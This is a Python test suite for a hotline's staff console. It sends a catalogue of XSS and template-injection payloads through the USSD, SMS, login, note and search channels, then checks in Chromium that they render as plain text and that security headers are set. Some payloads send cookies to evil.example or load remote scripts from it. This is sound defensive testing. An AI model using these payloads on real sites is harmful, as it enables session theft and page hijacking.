"""Stored and reflected XSS: hostile text sent the way an attacker can send it, then every console
page that shows it opened in Chromium.

Anyone can dial the USSD code or text the hotline, so the free text of a report (the description,
the place detail) is hostile input. So are the e-mail typed on the login page (it is audited),
a reveal reason, a note, the search box, and what the gateway echoes back in its end-of-session
events. Each payload of the catalogue goes in through the real webhooks and forms; then, in
Chromium, no dialog opens, no Content-Security-Policy violation is reported, no element or
attribute the payload carries exists in the page, and the payload is there as text.

The security headers every console response carries are checked without a browser.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import count
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from hotline.alerting import training
from hotline.models import OutboundMessage, Report
from hotline.records.audit import TARGET_MAX as AUDIT_TARGET_MAX
from hotline.sms.messages import body_of
from tests.support.builders import report
from tests.support.consolekit import browser_login, csrf_token, login, post
from tests.support.environment import TEST_TOKEN

USSD_URL = f"/webhooks/at/{TEST_TOKEN}/ussd"
SMS_URL = f"/webhooks/at/{TEST_TOKEN}/sms"
EVENTS_URL = f"/webhooks/at/{TEST_TOKEN}/ussd/events"
PLACE_DETAIL_MAX = 80  # the USSD place-detail screen's limit; the description takes 160

# fmt: off
PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert`1`</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img srcset=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>",
    "<a href=# onclick=alert(1)>clic</a>",
    "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
    # javascript: and data: URLs
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="jAvAsCrIpT:alert(1)">clic</a>',
    '<a href="&#106;avascript:alert(1)">clic</a>',
    '<a href="java\tscript:alert(1)">clic</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<base href="//evil.example/">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<math href="javascript:alert(1)">clic</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # attribute and element breakouts
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '"/><svg/onload=alert(1)//',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img """><script>alert(1)</script>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    # styles
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # template injection (Jinja, AngularJS, JS template literals, others)
    "{{7*7}}",
    "{{config.items()}}",
    "{% print 7*7 %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ _('x') }}{0}{reference}",
    # encoded variants
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
# fmt: on


def test_the_catalogue_has_fifty_distinct_payloads_that_fit_a_ussd_screen():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert all(0 < len(p) <= 160 and p == p.strip() and "\x00" not in p for p in PAYLOADS)


# Planting: every payload through the channels an attacker has


_phones = count(1)
_ids = count(1)


def next_phone() -> str:
    return f"+24384{next(_phones):07d}"


@dataclass
class Planted:
    """Where each payload went."""

    by_payload: dict[str, list[str]] = field(default_factory=dict)  # payload -> references
    places: dict[str, str] = field(default_factory=dict)  # reference -> place detail
    descriptions: dict[str, str] = field(default_factory=dict)  # reference -> description
    notes: dict[str, str] = field(default_factory=dict)  # reference -> note
    funnel_screens: set[str] = field(default_factory=set)


def ussd_hop(client, session_id: str, phone: str, text: str) -> str:  # type: ignore[no-untyped-def]
    response = client.post(
        USSD_URL,
        data={
            "sessionId": session_id,
            "phoneNumber": phone,
            "serviceCode": "*384*44135#",
            "networkCode": "63001",
            "text": text,
        },
    )
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert body.startswith(("CON ", "END ")), body
    return body


def ussd_report(client, description: str, place_detail: str | None) -> str:  # type: ignore[no-untyped-def]
    """A non-urgent French report on the keypad, its free text hostile; returns its reference.

    French, report, forced labour, no danger, Kwilu, Kikwit, place detail, 2 people, children not
    sure, description, call me back, in the morning, no PIN, send.
    """
    inputs = ["1", "1", "2", "2", "2", "3", place_detail or "99", "2", "3", description, "1", "1", "99", "1"]
    session_id, phone = f"ATUid_xss{next(_ids):026x}", next_phone()
    screen = ussd_hop(client, session_id, phone, "")
    for i in range(1, len(inputs) + 1):
        screen = ussd_hop(client, session_id, phone, "*".join(inputs[:i]))
    found = re.search(r"reference ?:? ([A-Z0-9]{6,8})", screen)
    assert screen.startswith("END ") and found, (description, screen)
    return found.group(1)


def sms(client, phone: str, text: str) -> None:  # type: ignore[no-untyped-def]
    response = client.post(
        SMS_URL,
        data={
            "id": f"ATXid_xss{next(_ids)}",
            "from": phone,
            "to": "12345",
            "text": text,
            "date": "2026-01-05 08:00:00",
        },
    )
    assert response.status_code == 200


SMS_BATCH = 9  # SMS from one number within minutes join one report: nine payloads a report


def plant(app, client, runtime, run_jobs) -> Planted:  # type: ignore[no-untyped-def]
    """Every payload as the description of a USSD report (and its place detail when it fits), as
    an SMS (nine SMS from one phone make one report, as a long or repeated SMS does), as a note and
    a reveal reason, as an e-mail typed on the login page, and as a screen name in a session event.
    """
    planted = Planted()
    for payload in PAYLOADS:
        place = payload if len(payload) <= PLACE_DETAIL_MAX else None
        reference = ussd_report(client, payload, place)
        planted.by_payload[payload] = [reference]
        planted.descriptions[reference] = payload
        planted.places[reference] = place or ""
    batches = [PAYLOADS[i : i + SMS_BATCH] for i in range(0, len(PAYLOADS), SMS_BATCH)]
    for batch in batches:
        phone = next_phone()
        for payload in batch:
            sms(client, phone, payload)
    run_jobs()  # the inbound job makes the reports
    with runtime.session() as db:
        by_text = {
            r.description: r.reference for r in db.scalars(select(Report).where(Report.channel == "sms"))
        }
    for batch in batches:
        reference = by_text["\n".join(batch)]  # in order, each SMS whole
        planted.descriptions[reference] = "\n".join(batch)
        for payload in batch:
            planted.by_payload[payload].append(reference)
    # What anyone typing on the login page puts in the audit log (from many addresses).
    token = csrf_token(client)
    for i, payload in enumerate(PAYLOADS):
        response = client.post(
            "/console/login",
            environ_base={"REMOTE_ADDR": f"10.66.0.{i}"},
            data={"email": payload, "password": "x", "csrf_token": token},
        )
        assert response.status_code == 401, (payload, response.status_code)
    # A note and a reveal reason on each USSD report (a worker's SMS note lands the same way).
    staff = app.test_client()
    login(staff, runtime, "admin", email="planter@example.org")
    token = csrf_token(staff, "/console/")
    for payload in PAYLOADS:
        reference = planted.by_payload[payload][0]
        for action, data in (("note", {"note": payload}), ("reveal", {"reason": f"Reason: {payload}"})):
            response = staff.post(
                f"/console/reports/{reference}/{action}", data={**data, "csrf_token": token}
            )
            assert response.status_code in (200, 303), (action, payload, response.status_code)
        planted.notes[reference] = payload
    # AT echoes the screen label we gave it; a forged event could carry anything.
    for payload in PAYLOADS:
        response = client.post(
            EVENTS_URL,
            data={
                "sessionId": f"ATUid_ev{next(_ids):026x}",
                "status": "Incomplete",
                "hopsMetadata": payload,
                "hopsCount": "3",
                "durationInMillis": "4000",
            },
        )
        assert response.status_code == 200
        planted.funnel_screens.add(payload.replace(",", "|").split("|")[-1][:64])
    return planted


@pytest.fixture
def hostile(app, client, runtime, run_jobs) -> Planted:  # type: ignore[no-untyped-def]
    return plant(app, client, runtime, run_jobs)


# Without a browser: stored as sent, escaped in the HTML


def escaped_in(html: str, text: str) -> bool:
    """``text`` is in the page as text: with ``&``, ``<`` and ``>`` escaped (quotes may be, as
    Jinja does, or not, as in SVG text), and nowhere raw if it holds a tag. A payload made of
    entities (``&lt;script&gt;``) is the escaped form of another, so it may appear raw."""
    unquoted = html.replace("&#34;", '"').replace("&#39;", "'").replace("&quot;", '"')
    minimal = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return minimal in unquoted and ("<" not in text or text not in html)


def test_every_payload_is_kept_as_sent_and_escaped_in_the_html(hostile, app, runtime):
    assert all(len(refs) == 2 for refs in hostile.by_payload.values())  # USSD and SMS
    with runtime.session() as db:
        stored = {r.reference: (r.description, r.place_detail) for r in db.scalars(select(Report))}
    for reference, description in hostile.descriptions.items():
        assert stored[reference] == (description, hostile.places.get(reference) or None)

    client = app.test_client()
    login(client, runtime, "admin", email="reader@example.org")
    wrong: list[str] = []
    for reference, description in hostile.descriptions.items():
        html = client.get(f"/console/reports/{reference}").get_data(as_text=True)
        for text in (*description.split("\n"), hostile.places.get(reference), hostile.notes.get(reference)):
            if text and not escaped_in(html, text):
                wrong.append(f"report {reference}: {text!r}")
    audit = "".join(
        client.get("/console/audit", query_string={"action": action, "page": n}).get_data(as_text=True)
        for action in ("number_revealed", "login_failed")
        for n in (1, 2)
    )
    for payload in PAYLOADS:
        for text in (f"Reason: {payload}", payload.lower()[:AUDIT_TARGET_MAX]):
            if not escaped_in(audit, text):
                wrong.append(f"audit: {text!r}")
        search = " ".join(payload.split())[:100]
        if not escaped_in(
            client.get("/console/", query_string={"q": payload}).get_data(as_text=True), search
        ):
            wrong.append(f"inbox search: {search!r}")
        if not escaped_in(
            client.get("/console/audit", query_string={"who": payload}).get_data(as_text=True),
            payload[:100].strip(),
        ):
            wrong.append(f"audit search: {payload!r}")
    dashboard = client.get("/console/dashboard").get_data(as_text=True)
    for screen in hostile.funnel_screens:
        if screen.strip() and not escaped_in(dashboard, screen):
            wrong.append(f"dashboard: {screen!r}")

    assert wrong == []


# In Chromium


FORBIDDEN = ", ".join(
    (
        "script:not([src])",
        "iframe",
        "frame",
        "object",
        "embed",
        "base",
        "meta[http-equiv]",
        "math",
        "img",
        "image",
        "video",
        "audio",
        "source",
        "details",
        "marquee",
        "template",
        "noscript",
        "style",
        "xss",
        "link:not([rel=stylesheet]):not([rel=icon])",
        "svg:not(.chart-card > svg)",
        "[autofocus]:not(main form.narrow [autofocus])",
        "[style]",
        "[srcdoc]",
    )
)
INJECTED = """(forbidden) => {
  const found = [...document.querySelectorAll(forbidden)].map((el) => el.outerHTML.slice(0, 80));
  for (const el of document.querySelectorAll("*")) {
    for (const attribute of el.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (name.startsWith("on")) found.push(`${el.tagName} ${name}`);
      if (/^(javascript|data|vbscript):/.test(value) && name !== "content" && name !== "value"
          && name !== "placeholder" && !name.startsWith("data-")) {
        found.push(`${el.tagName} ${name}=${value.slice(0, 40)}`);
      }
    }
  }
  for (const el of document.querySelectorAll("script[src], link[href], form[action], a[href]")) {
    const url = new URL(el.getAttribute("src") || el.getAttribute("href")
                        || el.getAttribute("action"), location.href);
    if (url.origin !== location.origin) found.push(`${el.tagName} to ${url.origin}`);
  }
  return found;
}"""


# Payloads that try to leave a quoted attribute: what matters where a page echoes a search.
BREAKOUTS = [p for p in PAYLOADS if set("\"'`") & set(p)]


def visit(page, url: str, problems: list[str], what: str | None = None) -> None:  # type: ignore[no-untyped-def]
    """Open ``url``; then no injected element, attribute or foreign URL, no dialog, no CSP report."""
    page.goto(url)
    what = what or url
    injected = page.evaluate(INJECTED, FORBIDDEN)
    if injected:
        problems.append(f"{what}: injected {injected}")
    if page.problems:
        problems.append(f"{what}: {list(page.problems)}")
        page.problems.clear()


def texts(page, selector: str) -> list[str]:  # type: ignore[no-untyped-def]
    return page.locator(selector).all_text_contents()


def test_every_console_page_showing_the_payloads_renders_them_as_text_in_chromium(hostile, page, runtime):
    browser_login(page, runtime, "admin", email="chromium@example.org")
    problems: list[str] = []
    check_report_pages(page, hostile, problems)
    check_inbox(page, hostile, problems)
    check_audit_log(page, problems)
    check_dashboard(page, hostile, problems)

    assert problems == []


def check_report_pages(page, hostile: Planted, problems: list[str]) -> None:  # type: ignore[no-untyped-def]
    """Each report's page: the description and place detail as answers, the note on the timeline."""
    for reference, description in hostile.descriptions.items():
        visit(page, f"/console/reports/{reference}", problems, f"report {reference}")
        shown = texts(page, "dl.answers dd.text")
        place = hostile.places.get(reference) or "—"
        if shown[:2] != [place, description]:
            problems.append(f"report {reference}: shows {shown[:2]!r}, not {[place, description]!r}")
        if not page.locator("dl.answers dd.text").nth(1).is_visible():
            problems.append(f"report {reference}: the description is not visible")
        note = hostile.notes.get(reference)
        if note and note not in texts(page, "ol.timeline div.text"):
            problems.append(f"report {reference}: note {note!r} not on the timeline")


def check_inbox(page, hostile: Planted, problems: list[str]) -> None:  # type: ignore[no-untyped-def]
    """The list, then payloads typed in the search box, which the page echoes in an attribute:
    the attribute breakouts there (every payload is checked in the HTML, without a browser)."""
    for number in (1, 2):
        visit(page, f"/console/?page={number}", problems)
    for payload in BREAKOUTS:
        visit(page, "/console/?" + urlencode({"q": payload}), problems, f"inbox search {payload!r}")
        typed = page.locator("form.filters input[name=q]").input_value()
        if typed != " ".join(payload.split())[:100]:
            problems.append(f"inbox search box shows {typed!r} for {payload!r}")
        listed = set(texts(page, "table.inbox tbody a"))
        if (
            len(payload) <= 100
            and len(payload.split()) == 1
            and not set(hostile.by_payload[payload]) <= listed
        ):
            problems.append(f"inbox search for {payload!r} lists {listed}")


def check_audit_log(page, problems: list[str]) -> None:  # type: ignore[no-untyped-def]
    """Reveal reasons and e-mails typed on the login page; the search boxes echo a payload."""
    cells: list[str] = []
    for action in ("number_revealed", "login_failed"):
        for number in (1, 2):
            visit(page, "/console/audit?" + urlencode({"action": action, "page": number}), problems)
            cells += texts(page, "table.audit td")
    shown = "\n".join(cells)
    for payload in PAYLOADS:
        if f"Reason: {payload}" not in shown:
            problems.append(f"audit: the reveal reason {payload!r} is not shown as text")
        if payload.lower()[:AUDIT_TARGET_MAX] not in shown:
            problems.append(f"audit: the login e-mail {payload.lower()!r} is not shown as text")
    for payload in BREAKOUTS[::2]:
        query = urlencode({"who": payload[:100], "target_id": payload[:100]})
        visit(page, f"/console/audit?{query}", problems, f"audit search {payload!r}")
        if page.locator("input[name=who]").input_value() != payload[:100].strip():
            problems.append(f"audit search box lost {payload!r}")


def check_dashboard(page, hostile: Planted, problems: list[str]) -> None:  # type: ignore[no-untyped-def]
    """Screen names from the session events, in the funnel chart (SVG) and its table."""
    visit(page, "/console/dashboard", problems)
    table = texts(page, "table.numbers td code")
    for screen in hostile.funnel_screens:
        if screen.strip() and screen not in table:
            problems.append(f"dashboard: the screen {screen!r} is not in the funnel table")
    labels = set(texts(page, ".chart-card svg text > title"))  # the chart's rows: 15 at most
    if len(labels & hostile.funnel_screens) < 10:
        problems.append(f"dashboard: the funnel chart's labels are not the screens: {labels}")


# The simulator: hostile free text reaches the emulated worker phone in the details SMS


# Eight, so that each one's alert, reply and details (24 SMS) fit on the phone (30 shown).
SIMULATOR_PAYLOADS = [p for p in PAYLOADS if len(p) <= PLACE_DETAIL_MAX and p.isascii()][::9][:8]


def simulator_call(client, token: str, endpoint: str, **data: Any) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    response = client.post(
        f"/console/simulator/{endpoint}", json={"pair": 0, **data}, headers={"X-CSRFToken": token}
    )
    assert response.status_code == 200, response.data
    return response.get_json()


def simulator_report(client, token: str, place_detail: str, description: str) -> str:  # type: ignore[no-untyped-def]
    keys = ["1", "1", "2", "2", "2", "3", place_detail, "2", "3", description, "1", "1", "99", "1"]
    ussd = simulator_call(client, token, "ussd", action="send", input="")["ussd"]
    if "Francais" not in ussd["screen"]:
        keys = keys[1:]  # the phone's language is remembered from its first call
    for key in keys:
        ussd = simulator_call(
            client, token, "ussd", action="send", session=ussd["session"], text=ussd["text"], input=key
        )["ussd"]
    assert ussd["end"], ussd
    return re.search(r"reference ?:? ([A-Z0-9]{6,8})", ussd["screen"]).group(1)


@pytest.fixture
def trained(app, runtime, run_jobs) -> Iterator[list[str]]:  # type: ignore[no-untyped-def]
    """Training reports made on the simulator with hostile place details, each accepted on the
    worker phone, so their details SMS (which quote the place detail) are on that phone."""
    client = app.test_client()
    login(client, runtime, "viewer", email="trainer@example.org")
    token = csrf_token(client, "/console/simulator")
    for payload in SIMULATOR_PAYLOADS:
        reference = simulator_report(client, token, payload, payload)
        run_jobs()
        simulator_call(client, token, "worker", text=f"1 {reference}")
        run_jobs()
    simulator_call(client, token, "sms", text=PAYLOADS[0])  # the reporter phone's SMS
    run_jobs()
    with runtime.session() as db:
        bodies = [
            body_of(runtime, m)
            for m in db.scalars(
                select(OutboundMessage)
                .where(
                    OutboundMessage.purpose == "details",
                    OutboundMessage.recipient_hash == runtime.cipher.lookup_hash(training.WORKER_PHONES[0]),
                )
                .order_by(OutboundMessage.id)
            )
        ]
    assert len(bodies) == len(SIMULATOR_PAYLOADS)
    assert all(p in b for p, b in zip(SIMULATOR_PAYLOADS, bodies, strict=True)), bodies
    yield bodies


def test_the_simulator_shows_hostile_sms_as_text_in_chromium(trained, page, runtime):
    assert len(SIMULATOR_PAYLOADS) == 8
    browser_login(page, runtime, "operator", email="trainee@example.org")
    problems: list[str] = []

    visit(page, "/console/simulator", problems)
    worker = page.locator('[data-sms-list="worker"] li')
    for body in trained:  # as the template wrote them
        if not any(body in text for text in worker.all_text_contents()):
            problems.append(f"simulator (page): {body!r} not shown as text")
    # The page's script redraws the phones from JSON after an SMS: the same text, as text.
    page.locator('[data-sms-form="worker"] input[name=text]').fill("AIDE")
    page.locator('[data-sms-form="worker"] button[type=submit]').click()
    expect(page.locator('[data-sms-form="worker"] input[name=text]')).to_have_value("")
    if page.evaluate(INJECTED, FORBIDDEN) or page.problems:
        problems.append(f"simulator (redrawn): {page.evaluate(INJECTED, FORBIDDEN)} {page.problems}")
    for body in trained:
        if not any(body in text for text in worker.all_text_contents()):
            problems.append(f"simulator (script): {body!r} not shown as text")

    assert problems == []


# Security headers, without a browser


def csp_directives(header: str) -> dict[str, list[str]]:
    directives: dict[str, list[str]] = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            directives[words[0].lower()] = [w.lower() for w in words[1:]]
    return directives


def header_problems(response, personal: bool) -> list[str]:  # type: ignore[no-untyped-def]
    found = []
    csp = csp_directives(response.headers.get("Content-Security-Policy", ""))
    scripts = csp.get("script-src", csp.get("default-src"))
    if not scripts:
        found.append("no script-src")
    elif {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"} & set(scripts):
        found.append(f"script-src {scripts}")
    if csp.get("frame-ancestors") != ["'none'"]:
        found.append(f"frame-ancestors {csp.get('frame-ancestors')}")
    if csp.get("object-src") != ["'none'"]:
        found.append(f"object-src {csp.get('object-src')}")
    if csp.get("base-uri") not in (["'none'"], ["'self'"]):
        found.append(f"base-uri {csp.get('base-uri')}")
    if "'unsafe-inline'" in csp.get("style-src", csp.get("default-src", [])):
        found.append("style-src allows inline style")
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        found.append("no nosniff")
    if response.headers.get("Referrer-Policy") not in (
        "no-referrer",
        "same-origin",
        "strict-origin",
        "strict-origin-when-cross-origin",
    ):
        found.append(f"Referrer-Policy {response.headers.get('Referrer-Policy')}")
    if personal and "no-store" not in response.headers.get("Cache-Control", ""):
        found.append(f"Cache-Control {response.headers.get('Cache-Control')}")
    return found


def test_every_console_response_carries_the_security_headers(app, client, runtime, run_jobs):
    case = report(runtime, phone="+243811234567", contact="callback")
    responses: dict[str, Any] = {
        "login page": client.get("/console/login"),
        "login refused": client.post(
            "/console/login",
            data={"email": "x@example.org", "password": "x", "csrf_token": csrf_token(client)},
        ),
        "logged out": client.get("/console/"),
        "no CSRF token": client.post("/console/logout"),
    }
    unknown = client.get("/console/nowhere")
    login(client, runtime, "admin")
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("console.") and "GET" in rule.methods and not rule.arguments:
            responses[rule.rule] = client.get(rule.rule)
    responses.update(
        {
            "report page": client.get(f"/console/reports/{case.reference}"),
            "another report": client.get("/console/reports/NOSUCH"),
            "note": post(client, f"/console/reports/{case.reference}/note", {"note": "n"}),
            "reveal": post(
                client,
                f"/console/reports/{case.reference}/reveal",
                {"reason": "The child is in danger tonight"},
            ),
            "full export": client.get("/console/reports.csv?full=1"),
            "simulator JSON": client.get("/console/simulator/phones"),
        }
    )
    viewer = app.test_client()
    login(viewer, runtime, "viewer")
    responses["forbidden"] = viewer.get("/console/audit")
    static = client.get("/static/console.js")

    assert responses["reveal"].status_code == 200 and "+243811234567" in responses["reveal"].get_data(
        as_text=True
    )
    assert {r.status_code for r in responses.values()} >= {200, 302, 303, 400, 401, 403, 404}
    wrong = {
        what: found
        for what, response in responses.items()
        if (found := header_problems(response, personal=True))
    }
    assert wrong == {}
    assert header_problems(static, personal=False) == []
    assert unknown.status_code == 404 and header_problems(unknown, personal=False) == []
    assert "Strict-Transport-Security" not in responses["login page"].headers
    secure = client.get("/console/", base_url="https://hotline.example")
    assert "max-age=" in secure.headers.get("Strict-Transport-Security", "")
